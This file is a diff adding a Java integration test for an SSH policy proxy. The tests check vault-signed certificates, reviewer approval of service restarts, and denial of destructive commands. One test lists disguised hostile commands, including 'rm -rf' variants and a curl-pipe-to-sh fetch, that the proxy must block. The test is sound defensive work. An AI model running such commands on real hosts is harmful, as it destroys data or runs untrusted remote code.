@@ -1,0 +1,174 @@
+package dev.gatehouse.local;
+
+import dev.gatehouse.testkit.RequiredTool;
+import dev.gatehouse.testkit.SshdTarget;
+import org.junit.jupiter.api.Test;
+import tools.jackson.databind.JsonNode;
+
+import java.io.IOException;
+import java.net.URI;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.TimeUnit;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+/**
+ * SSH through the real services (issue 20): the real OpenSSH client (sshpass feeding the CI token) through
+ * the proxy's listener to Debian's sshd, the demo policy deciding each command line as policy-service
+ * parses it, the vault signing a user certificate per session, and a restart held for a reviewer.
+ */
+class SshSystemIT extends DemoSuiteTest {
+
+    private static final String SUBJECT = "repo:acme/app:ref:refs/heads/main";
+
+    private static String agent() {
+        return oidc.ciToken(SUBJECT, Map.of("repository", "acme/app", "ref", "refs/heads/main"));
+    }
+
+    @Test
+    void anAllowedCommandRunsAndTheHostSeesAVaultCertificateNamingTheCiIdentity() throws Exception {
+        Result result = ssh("echo ok-from-demo && whoami");
+
+        assertThat(result.exit()).as(result.stderr()).isZero();
+        assertThat(result.stdout()).contains("ok-from-demo").contains(DemoSsh.target().user());
+        assertThat(DemoSsh.target().log()).contains("CERT").contains("ID gatehouse ci=" + oidc.issuerUrl("ci") + " " + SUBJECT)
+                .contains(SUBJECT);
+    }
+
+    @Test
+    void rmRfIsDeniedWith126AndTheRuleAndTheDirectoryStays() throws Exception {
+        Path data = precious("srv-data");
+
+        Result result = ssh("rm -rf " + data);
+
+        assertThat(result.exit()).isEqualTo(126);
+        assertThat(result.stderr()).contains("ssh-no-deletes");
+        assertThat(data.resolve("keep.txt")).exists();
+    }
+
+    @Test
+    void disguisedDestructiveCommandsAreDenied() throws Exception {
+        Path data = precious("srv-disguised");
+        for (String line : List.of("echo ok; rm -rf " + data, "bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'",
+                "echo $(rm -rf " + data + ")", "sudo -u root rm -rf " + data, "r''m -rf " + data)) {
+            Result result = ssh(line);
+
+            assertThat(result.exit()).as(line + ": " + result.stderr()).isEqualTo(126);
+            assertThat(result.stdout()).as(line).doesNotContain("ok");
+        }
+        assertThat(data.resolve("keep.txt")).exists();
+    }
+
+    @Test
+    void aRestartWaitsForAReviewerApprovingOverRestThenRuns() throws Exception {
+        String unit = "gatehouse-demo-" + System.nanoTime();
+        CompletableFuture<Result> held = CompletableFuture.supplyAsync(() -> {
+            try {
+                return ssh("systemctl restart " + unit);
+            } catch (Exception e) {
+                throw new IllegalStateException(e);
+            }
+        });
+        String approval = awaitPending(unit);
+        assertThat(held).as("the command waits").isNotDone();
+
+        HttpResponse<String> approved = HTTP.send(HttpRequest.newBuilder(URI.create(suite.url("approval-service")
+                        + "/api/v1/approvals/" + approval + "/approve"))
+                .header("Authorization", "Bearer " + oidc.internalToken("ops", "gatehouse-reviewer"))
+                .header("Content-Type", "application/json")
+                .POST(HttpRequest.BodyPublishers.ofString("{\"comment\":\"restart ok\"}")).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertThat(approved.statusCode()).as(approved.body()).isEqualTo(200);
+
+        Result result = held.get(60, TimeUnit.SECONDS);
+        assertThat(result.stderr()).contains(approval).contains("granted");
+        assertThat(result.exit()).as("it ran on the host (systemctl itself may fail there)").isNotEqualTo(126);
+    }
+
+    @Test
+    void aRejectedRestartNeverRunsAndTheAgentReadsTheReviewersComment() throws Exception {
+        String unit = "gatehouse-rejected-" + System.nanoTime();
+        CompletableFuture<Result> held = CompletableFuture.supplyAsync(() -> {
+            try {
+                return ssh("systemctl restart " + unit);
+            } catch (Exception e) {
+                throw new IllegalStateException(e);
+            }
+        });
+        String approval = awaitPending(unit);
+
+        HttpResponse<String> rejected = HTTP.send(HttpRequest.newBuilder(URI.create(suite.url("approval-service")
+                        + "/api/v1/approvals/" + approval + "/reject"))
+                .header("Authorization", "Bearer " + oidc.internalToken("ops", "gatehouse-reviewer"))
+                .header("Content-Type", "application/json")
+                .POST(HttpRequest.BodyPublishers.ofString("{\"comment\":\"not during the sale\"}")).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertThat(rejected.statusCode()).as(rejected.body()).isEqualTo(200);
+
+        Result result = held.get(60, TimeUnit.SECONDS);
+        assertThat(result.exit()).isEqualTo(126);
+        assertThat(result.stderr()).contains("approval " + approval + " was rejected").contains("not during the sale");
+    }
+
+    private static Path precious(String name) throws IOException {
+        Path data = DemoSsh.target().dataDir(name + "-" + System.nanoTime());
+        Files.writeString(data.resolve("keep.txt"), "precious");
+        return data;
+    }
+
+    private static String awaitPending(String text) {
+        String reviewer = oidc.internalToken("lister", "gatehouse-reviewer");
+        URI list = URI.create(suite.url("approval-service") + "/api/v1/approvals?status=PENDING&connection="
+                + DemoSsh.CONNECTION);
+        return await("a pending approval for " + text).atMost(Duration.ofSeconds(30)).until(() -> {
+            JsonNode body = JSON.readTree(HTTP.send(HttpRequest.newBuilder(list).header("Authorization", "Bearer " + reviewer)
+                    .build(), HttpResponse.BodyHandlers.ofString()).body());
+            for (JsonNode approval : body.isArray() ? body : body.path("items")) {
+                if (approval.path("command").asString().contains(text)) {
+                    return approval.path("id").asString();
+                }
+            }
+            return null;
+        }, java.util.Objects::nonNull);
+    }
+
+    record Result(int exit, String stdout, String stderr) {
+    }
+
+    private static Result ssh(String remote) throws IOException, InterruptedException {
+        Path home = Files.createTempDirectory("ssh-agent");
+        Files.writeString(home.resolve("known_hosts"), "[127.0.0.1]:" + suite.proxySsh().port() + " "
+                + suite.proxySsh().publicKey() + "\n");
+        List<String> command = new ArrayList<>(List.of(RequiredTool.sshpass().toString(), "-e",
+                RequiredTool.ssh().toString(), "-p", Integer.toString(suite.proxySsh().port()), "-F", "/dev/null",
+                "-o", "UserKnownHostsFile=" + home.resolve("known_hosts"), "-o", "StrictHostKeyChecking=yes",
+                "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "-o", "LogLevel=ERROR",
+                DemoSsh.CONNECTION + "@127.0.0.1", remote));
+        ProcessBuilder builder = new ProcessBuilder(command).redirectOutput(home.resolve("out").toFile())
+                .redirectError(home.resolve("err").toFile());
+        builder.environment().put("SSHPASS", agent());
+        Process process = builder.start();
+        process.getOutputStream().close();
+        if (!process.waitFor(90, TimeUnit.SECONDS)) {
+            process.destroyForcibly();
+            throw new IllegalStateException("ssh did not finish");
+        }
+        return new Result(process.exitValue(), Files.readString(home.resolve("out")), Files.readString(home.resolve("err")));
+    }
+
+    static {
+        SshdTarget host = DemoSsh.target();
+        if (host == null) {
+            RequiredTool.sshd(); // fails the class naming what to install: never skipped silently
+        }
+    }
+}
